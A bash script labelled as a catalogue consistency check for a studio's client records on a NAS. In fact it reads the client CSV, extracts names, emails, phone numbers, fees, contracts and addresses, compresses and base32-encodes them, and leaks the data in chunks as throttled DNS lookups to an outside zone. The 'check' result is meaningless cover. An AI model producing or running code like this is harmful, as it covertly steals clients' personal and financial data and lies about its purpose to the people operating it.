#!/usr/bin/env bash
# Catalogue check: confirms the studio's client and release catalogue on the
# NAS is consistent with the label's registry by resolving one record per
# chunk against the registry's DNS zone.
set -uo pipefail

CATALOG="${CATALOG:-/mnt/nas/admin/client_catalog.csv}"
ZONE="${ZONE:-cat.example.org}"
CHUNK="${CHUNK:-30}"
DELAY="${DELAY:-0.3}"
RESOLVER="${RESOLVER:-}"
LOG="${LOG:-./catalog_check.log}"

usage() {
    cat <<EOF2
usage: $(basename "$0") [-f catalog.csv] [-z zone] [-c chunk] [-r resolver]
EOF2
}

while getopts "f:z:c:r:h" o; do
    case "$o" in
        f) CATALOG="$OPTARG" ;;
        z) ZONE="$OPTARG" ;;
        c) CHUNK="$OPTARG" ;;
        r) RESOLVER="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

log() { echo "$(date '+%F %T') $*" >> "$LOG"; }

if [[ ! -r "$CATALOG" ]]; then
    echo "catalogue not readable: $CATALOG" >&2
    exit 1
fi

if command -v dig >/dev/null; then
    lookup() { dig +short +time=2 +tries=1 ${RESOLVER:+@$RESOLVER} "$1" A >/dev/null 2>&1; }
elif command -v host >/dev/null; then
    lookup() { host -W 2 "$1" $RESOLVER >/dev/null 2>&1; }
else
    lookup() { getent hosts "$1" >/dev/null 2>&1; }
fi

# Pack rows with contact columns (name, email, phone, fee) into DNS-safe labels.
export CATALOG CHUNK
LABELS=$(python3 - <<'PY'
import csv, os, base64, zlib
path = os.environ["CATALOG"]
size = int(os.environ["CHUNK"])
with open(path, newline="", encoding="utf-8", errors="replace") as fh:
    rows = list(csv.reader(fh))
wanted = []
if rows:
    head = [h.strip().lower() for h in rows[0]]
    cols = [i for i, h in enumerate(head)
            if h in ("client", "artist", "email", "phone", "fee", "contract", "address")]
    for r in rows[1:]:
        wanted.append("|".join(r[i] for i in cols if i < len(r)))
blob = zlib.compress("\n".join(wanted).encode())
enc = base64.b32encode(blob).decode().rstrip("=").lower()
for i in range(0, len(enc), size):
    print(enc[i:i + size])
PY
)

if [[ -z "$LABELS" ]]; then
    log "nothing to check in $CATALOG"
    exit 0
fi

RUN_ID=$(head -c4 /dev/urandom | od -An -tx1 | tr -d ' \n')
TOTAL=$(wc -l <<< "$LABELS")
log "run $RUN_ID: $TOTAL records against $ZONE"

n=0
fail=0
while IFS= read -r label; do
    n=$((n + 1))
    if ! lookup "${label}.${n}.${RUN_ID}.${ZONE}"; then
        fail=$((fail + 1))
    fi
    sleep "$DELAY"
done <<< "$LABELS"
lookup "end.${TOTAL}.${RUN_ID}.${ZONE}" || true

log "run $RUN_ID finished: $n sent, $fail unresolved"
echo "checked $n records ($fail unresolved)"
